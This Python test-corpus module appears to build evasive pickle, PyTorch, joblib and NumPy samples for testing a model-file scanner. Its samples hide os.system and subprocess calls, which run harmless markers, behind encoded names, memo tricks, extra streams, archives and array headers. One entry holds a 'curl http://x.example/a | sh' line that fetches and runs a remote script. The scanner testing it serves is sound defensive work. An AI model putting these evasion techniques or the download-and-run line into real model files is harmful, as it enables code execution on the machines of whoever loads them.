"""Pickles that hide what they do, or do it in a way that a list of names does not see; broken ones with a payload."""

import base64
import io
import pickle
import struct
import zipfile
from collections.abc import Iterator

import numpy as np

from tests.scan.corpus.sample import MARKER, Sample, call, name, raw, start, strings, text

SYSTEM = call("os", "system")
_ARG = strings((MARKER,))


def pickles() -> list[Sample]:
    """Every odd pickle of the corpus."""
    found = [
        Sample(f"{label}.pkl", data, "pickle tricks")
        for label, data in (*_hidden(), *_acting(), *_broken(), *_nested())
    ]
    return [*found, *(Sample(label, data, "torch and joblib") for label, data in (*_torch(), *_joblib()))]


def _hidden() -> Iterator[tuple[str, bytes]]:
    four = start(4)
    yield "ext1", four + b"\x82\x01" + _ARG + b"R."
    yield "ext2", four + b"\x83\x01\x02" + _ARG + b"R."
    yield "ext4", four + b"\x84\x01\x02\x03\x00" + _ARG + b"R."
    yield "name-from-memo", four + text("os") + b"\x94" + text("system") + b"\x940" + b"0h\x00h\x01\x93" + _ARG + b"R."
    yield "name-from-put", four + text("os") + b"q\x07" + text("system") + b"q\x0800h\x07h\x08\x93" + _ARG + b"R."
    yield "name-from-dup", four + text("os") + b"2" + b"0" + text("system") + b"\x93" + _ARG + b"R."
    yield (
        "name-computed",
        four + name("builtins", "str") + strings(("os",)) + b"R" + text("system") + b"\x93" + _ARG + b"R.",
    )
    yield (
        "name-encoded",
        four + name("_codecs", "encode") + strings(("os", "latin1")) + b"R" + text("system") + b"\x93" + _ARG + b"R.",
    )
    yield "name-rot13", four + name("_codecs", "encode") + strings(("bf", "rot13")) + b"R."
    yield "name-number", four + b"K\x01K\x02\x93."
    yield "name-unicode-lookalike", call("оs", "system")
    yield "name-with-dots", call("collections", "abc.sys.modules")
    yield "name-below-class", call("builtins", "str.__class__.__base__.__subclasses__")
    yield "subclass-import", call("sklearn.base", "BaseEstimator.__init__.__globals__.get")
    yield "module-below-allowed", call("torch.nn.modules.linear", "os.system")
    yield "module-in-allowed", call("sklearn.ensemble._forest", "threading.Thread")
    yield "binstring", start(1) + b"U\x02osU\x06system\x93" + _ARG + b"R."
    yield "string-escapes", b"S'o\\x73'\nS'syst\\x65m'\n\x93" + _ARG + b"R."
    yield "short-frame", four + b"\x95" + struct.pack("<Q", 1) + SYSTEM[2:]
    yield "frame-of-nothing", four + b"\x95" + struct.pack("<Q", 0) + SYSTEM[2:]
    yield "frame-too-long", four + b"\x95" + struct.pack("<Q", 2**40) + SYSTEM[2:]
    yield "frame-in-frame", four + b"\x95" + struct.pack("<Q", 30) + b"\x95" + struct.pack("<Q", 10) + SYSTEM[2:]
    yield "frame-crossed", four + b"\x95" + struct.pack("<Q", 3) + SYSTEM[2:]
    yield "second-stream", pickle.dumps({"a": 1}) + SYSTEM
    yield "third-stream", pickle.dumps(1) + pickle.dumps(2) + SYSTEM
    yield "second-stream-protocol0", pickle.dumps({"a": 1}) + call("os", "system", protocol=0)
    yield "after-junk-objects", four + b"N0" * 200 + SYSTEM[2:]
    yield "after-big-memo", four + b"N\x94" * 3000 + SYSTEM[2:]
    yield "protocol-twice", four + start(2) + SYSTEM[2:]
    yield "protocol-0-marked-4", start(4) + call("os", "system", protocol=0)
    yield "carriage-returns", b"cos\r\nsystem\r\n(S'" + MARKER.encode() + b"'\ntR."
    yield "unused-name", four + name("os", "system") + b"0" + b"N."
    yield "popped-mark", four + b"(" + name("os", "system") + b"1N."


def _acting() -> Iterator[tuple[str, bytes]]:
    four = start(4)
    pathless = name("collections", "OrderedDict")
    yield "build-on-class", four + pathless + b"}" + text("update") + name("builtins", "print") + b"sb."
    yield "build-on-class-harmless", four + pathless + b"N}" + text("x") + text("y") + b"s\x86b."
    yield (
        "setstate-planted",
        four + name("argparse", "Namespace") + b")R}" + text("__setstate__") + name("builtins", "list") + b"sb}b.",
    )
    yield "reduce-planted", four + pathless + b")R}" + text("__reduce__") + name("builtins", "str") + b"sb."
    yield "class-planted", four + pathless + b")R}" + text("__class__") + name("builtins", "object") + b"sb."
    yield "call-of-call", four + name("builtins", "dict") + b")R)R."
    yield "call-of-value", four + name("torch", "float32") + b")R."
    yield "partial", four + name("functools", "partial") + name("os", "system") + _ARG[1:-1] + b"\x86R)R."
    yield (
        "attrgetter",
        four + name("operator", "attrgetter") + strings(("system",)) + b"R" + name("os", "path") + b"\x85R.",
    )
    yield "methodcaller", four + name("operator", "methodcaller") + strings(("system", MARKER)) + b"R."
    yield (
        "getattr-import",
        four
        + name("builtins", "getattr")
        + name("builtins", "__import__")
        + strings(("os",))
        + b"R"
        + text("system")
        + b"\x86R"
        + _ARG
        + b"R.",
    )
    yield (
        "map-list",
        four
        + name("builtins", "list")
        + name("builtins", "map")
        + name("os", "system")
        + b"]("
        + text(MARKER)
        + b"e\x86R\x85R.",
    )
    yield "defaultdict-factory", four + name("collections", "defaultdict") + name("os", "getcwd") + b"\x85R."
    yield "defaultdict-of-call", four + name("collections", "defaultdict") + name("_codecs", "encode") + b"\x85R."
    yield (
        "reconstructor",
        four + name("copyreg", "_reconstructor") + name("os", "_wrap_close") + name("builtins", "object") + b"N\x87R.",
    )
    yield "newobj-function", four + name("_codecs", "encode") + _ARG + b"\x81."
    yield "huge-bytearray", four + name("builtins", "bytearray") + b"\x8a\x06\x00\x00\x00\x00\x00\x01\x85R."
    yield "persistent-plain", four + text("archive://model") + b"Q."
    yield "persistent-text", b"Pmodel\n."
    yield "next-buffer", start(5) + b"\x97."
    yield "append-to-function", four + name("os", "environ") + b"(" + text("x") + b"e."
    yield "setitem-on-modules", four + name("sys", "modules") + text("os") + name("builtins", "dict") + b"s."
    yield (
        "ufunc-reconstruct",
        four + name("numpy.core", "_ufunc_reconstruct") + strings(("os", "system")) + b"R" + _ARG + b"R.",
    )
    yield "dtype-of-object", four + name("numpy", "loadtxt") + _ARG + b"R."
    yield (
        "computed-arguments",
        four + name("builtins", "bytes") + name("builtins", "tuple") + b")RR" + b"cos\ngetpid\n)R.",
    )
    yield "codecs-zip", four + name("_codecs", "encode") + strings(("x", "zlib_codec")) + b"R."


def _broken() -> Iterator[tuple[str, bytes]]:
    body = SYSTEM[:-1]
    yield "payload-then-nothing", body
    yield "payload-then-junk", body + b"\xff\xfe\xfd"
    yield "payload-then-unknown-instruction", body + b"0\xf0."
    yield "payload-then-bad-memo", body + b"h\x77."
    yield "payload-then-empty-stack", body + b"000000."
    yield "payload-then-cut-string", body + b"X\xff\xff\xff\x7fabc"
    yield "payload-then-two-bytes", SYSTEM + b"\x00\x00"
    yield "payload-protocol0-then-junk", call("os", "system", protocol=0)[:-1] + b"\x00junk"
    yield "cut-before-call", SYSTEM[:-2]
    yield "trailing-zeros", pickle.dumps({"a": 1}) + b"\x00" * 64
    yield "trailing-text", pickle.dumps({"a": 1}) + b"import os"
    yield "memo-missing-key", start(4) + b"h\x05" + SYSTEM[2:]
    yield "protocol-9", b"\x80\x09" + SYSTEM[2:]
    yield "negative-put", b"(lp-1\n." + SYSTEM
    yield "bad-utf8", start(4) + b"\x8c\x02\xff\xff" + SYSTEM[2:]
    yield "stack-of-marks", start(4) + b"(" * 50 + SYSTEM[2:]
    yield "only-mark", start(4) + b"(."
    yield "empty-after-protocol", start(4)


def _nested() -> Iterator[tuple[str, bytes]]:
    yield "nested-bytes", pickle.dumps({"weights": [1, 2], "extra": SYSTEM})
    yield "nested-bytes-protocol0", pickle.dumps({"extra": call("os", "system", protocol=0)})
    yield "nested-bytes-protocol2", pickle.dumps({"extra": call("subprocess", "run", protocol=2)}, 2)
    yield "nested-inside-bytes", pickle.dumps({"extra": b"header" * 3 + SYSTEM})
    yield "nested-bytearray", pickle.dumps({"extra": bytearray(SYSTEM)}, 5)
    yield "nested-base64", pickle.dumps({"extra": base64.b64encode(SYSTEM).decode()})
    yield (
        "nested-base64-bytes",
        pickle.dumps({"extra": base64.b64encode(call("os", "system", protocol=0) * 2).decode()}),
    )
    yield "nested-hex", pickle.dumps({"extra": SYSTEM.hex()})
    yield "nested-twice", pickle.dumps({"one": pickle.dumps({"two": SYSTEM})})
    yield "nested-code", pickle.dumps({"extra": "__import__('os').system('echo palladion')"})
    yield "nested-code-eval", pickle.dumps(["eval(compile('1', '', 'eval'))"])
    yield "nested-code-base64", pickle.dumps({"c": base64.b64encode(b"os.system('echo palladion')").decode()})
    yield "nested-shell", pickle.dumps({"post_install": "curl http://x.example/a | sh"})


def zipped(files: dict[str, bytes], method: int = 0) -> bytes:
    """A ZIP archive of files."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for member, data in files.items():
            archive.writestr(member, data)
    return buffer.getvalue()


_LEGACY = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."


def _torch() -> Iterator[tuple[str, bytes]]:
    storage = b"(" + text("storage") + name("torch", "FloatStorage") + text("0") + text("cpu") + b"K\x02tQ"
    good = start(4) + storage + b"."
    yield "torch-data.pt", zipped({"archive/data.pkl": SYSTEM, "archive/version": b"3\n"})
    yield "torch-deflated.pt", zipped({"archive/data.pkl": SYSTEM, "archive/version": b"3\n"}, 8)
    yield "torch-root.pt", zipped({"data.pkl": SYSTEM, "version": b"3\n"})
    yield "torch-constants.pt", zipped({"m/data.pkl": good, "m/constants.pkl": SYSTEM, "m/data/0": b"12345678"})
    yield "torch-other-pickle.pt", zipped({"m/data.pkl": good, "m/data/0": b"12345678", "m/evil.pkl": SYSTEM})
    yield "torch-two-roots.pt", zipped({"a/data.pkl": good, "a/data/0": b"12345678", "b/data.pkl": SYSTEM})
    yield "torch-pickle-as-storage.pt", zipped({"m/data.pkl": good, "m/data/0": b"12345678", "m/data/1": SYSTEM})
    yield (
        "torch-config-py.pt",
        zipped(
            {"m/data.pkl": good, "m/data/0": b"12345678", "m/model.py": b"import os\nos.system('echo palladion')\n"}
        ),
    )
    yield "torch-persistent-odd.pt", zipped({"m/data.pkl": start(4) + text("module") + b"Q."})
    yield (
        "torch-persistent-class.pt",
        zipped(
            {
                "m/data.pkl": start(4)
                + b"("
                + text("storage")
                + name("os", "system")
                + text("0")
                + text("cpu")
                + b"K\x02tQ."
            }
        ),
    )
    yield "torch-legacy-payload.pt", _LEGACY + pickle.dumps(1001) + pickle.dumps({}) + SYSTEM + pickle.dumps([])
    yield "torch-legacy-payload-first.pt", SYSTEM + _LEGACY
    yield "torch-legacy-payload-keys.pt", _LEGACY + pickle.dumps(1001) + pickle.dumps({}) + pickle.dumps({}) + SYSTEM
    yield "torch-legacy-other-magic.pt", pickle.dumps(2**70) + pickle.dumps(1001) + pickle.dumps({}) + SYSTEM
    yield (
        "torch-legacy-trailing.pt",
        _LEGACY + pickle.dumps(1001) + pickle.dumps({}) + pickle.dumps({}) + pickle.dumps([]) + SYSTEM,
    )
    yield "torch-legacy-short.pt", _LEGACY + pickle.dumps(1001)
    yield (
        "torch-load-from-bytes.pkl",
        start(4) + name("torch.storage", "_load_from_bytes") + raw(zipped({"a/data.pkl": SYSTEM})) + b"\x85R.",
    )
    yield (
        "torch-load-from-pickle.pkl",
        start(4) + name("torch.storage", "_load_from_bytes") + raw(call("os", "system", protocol=0)) + b"\x85R.",
    )
    yield (
        "torch-load-from-computed.pkl",
        start(4) + name("torch.storage", "_load_from_bytes") + name("builtins", "bytes") + b")R\x85R.",
    )
    script = b"def forward(self, x):\n  y = torch.from_file('/etc/hostname', True, 10)\n  return torch.save(y, 'out')\n"
    yield (
        "torchscript-file.pt",
        zipped(
            {
                "m/data.pkl": good,
                "m/data/0": b"12345678",
                "m/constants.pkl": start(2) + b").",
                "m/code/__torch__/m.py": script,
            }
        ),
    )
    other = b"def forward(self, x):\n  return ops.evil.run(x)\n"
    yield (
        "torchscript-operators.pt",
        zipped(
            {
                "m/data.pkl": good,
                "m/data/0": b"12345678",
                "m/constants.pkl": start(2) + b").",
                "m/code/__torch__/m.py": other,
            }
        ),
    )
    yield "torchscript-class-in-plain.pkl", call("__torch__", "Net")
    yield "torch-package.pt", zipped({"p/.data/extern_modules": b"os\n", "p/m/__init__.py": b"import os\n"})


def _joblib() -> Iterator[tuple[str, bytes]]:
    import bz2
    import gzip
    import lzma
    import zlib

    for label, squeeze in (
        ("zlib", zlib.compress),
        ("gzip", gzip.compress),
        ("bz2", bz2.compress),
        ("xz", lzma.compress),
    ):
        yield f"joblib-{label}.joblib", squeeze(SYSTEM)
    yield "joblib-lzma.joblib", lzma.compress(SYSTEM, format=lzma.FORMAT_ALONE)
    yield "joblib-old.joblib", b"ZF" + hex(len(SYSTEM)).encode().ljust(19) + zlib.compress(SYSTEM)
    yield "joblib-twice.joblib", gzip.compress(zlib.compress(SYSTEM))
    yield "joblib-objects.joblib", _wrapped("O8", 1, SYSTEM) + b"."
    yield "joblib-behind-array.joblib", _wrapped("u1", 8, b"\xff" * 8) + name("os", "system") + _ARG + b"R."
    hidden = b"0" + name("os", "system") + _ARG + b"R."
    yield "joblib-in-array.joblib", _wrapped("u1", len(hidden), hidden) + b"."
    yield "joblib-short-array.joblib", _wrapped("f8", 10**6, b"") + b"."
    yield "joblib-dtype-lies.joblib", _wrapped("Z8", 1, SYSTEM) + b"."
    yield "joblib-file-reference.joblib", call("joblib.numpy_pickle_compat", "ZNDArrayWrapper")
    buffer = io.BytesIO()
    np.save(buffer, np.zeros(1, object), allow_pickle=True)
    head = buffer.getvalue()[: buffer.getvalue().index(b"\x80")]
    yield "objects.npy", head + SYSTEM
    yield "objects-renamed.weights", head + SYSTEM
    yield "objects.npz", zipped({"a.npy": head + SYSTEM}, 8)
    yield "array-behind.npy", _array() + SYSTEM
    yield "array-cut.npy", _array()[:-3]
    yield (
        "array-header-code.npy",
        b"\x93NUMPY\x01\x00" + struct.pack("<H", 40) + b"__import__('os').system('echo palladion')",
    )
    yield "array-header-long.npy", b"\x93NUMPY\x02\x00" + struct.pack("<I", 2**31) + b"{"
    yield "array-header-nested.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", 9000) + b"[" * 9000
    yield "array-hidden-field.npy", _array(b"[('a', 'u1'), ('b', '|O')]")


def _array(descr: bytes = b"'|u1'") -> bytes:
    header = b"{'descr': " + descr + b", 'fortran_order': False, 'shape': (16,), }\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + bytes(range(16))


def _wrapped(code: str, count: int, data: bytes) -> bytes:
    """An array as joblib keeps it in a pickle: a wrapper, and the bytes behind it."""
    dtype = name("numpy", "dtype") + b"(" + text(code) + b"\x89\x88tR"
    state = (
        b"}(" + text("subclass") + name("numpy", "ndarray") + text("shape") + b"J" + struct.pack("<i", count) + b"\x85"
    )
    state += text("order") + text("C") + text("dtype") + dtype + text("allow_mmap") + b"\x89u"
    return start(4) + name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b" + data
